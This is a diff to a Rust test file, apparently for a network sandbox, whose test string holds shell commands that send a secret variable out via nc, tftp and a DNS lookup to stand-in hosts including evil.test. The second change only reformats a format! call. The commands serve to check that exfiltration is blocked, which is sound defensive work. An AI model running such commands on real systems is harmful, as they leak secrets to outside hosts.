@@ -12,7 +12,7 @@ use portcullis_tests::{Canary, JobOutcome, World};
 const SEND: &str = r#"
 for a in 203.0.113.66 2001:db8::66; do
     echo "$S" | nc -w 1 $a 4444
-    for n in 1 2 3; do echo "$S" | nc -u -w 1 $a 4445; done
+    echo "$S" >/tmp/s; timeout 1 tftp -p -l /tmp/s -r "$S" $a 4445
 done
 ping -c 1 -W 1 203.0.113.66; ping -6 -c 1 -W 1 2001:db8::66
 nslookup $S.evil.test
@@ -71,7 +71,12 @@ fn calls_of(events: &[Event]) -> Vec<String> {
     let in_short = |event: &NetworkEvent| {
         format!(
             "{:?} {:?} {} {}:{:?} from {:?}",
-            event.verdict, event.direction, event.protocol, event.address, event.port, event.container
+            event.verdict,
+            event.direction,
+            event.protocol,
+            event.address,
+            event.port,
+            event.container
         )
     };
     network(events).map(in_short).collect()
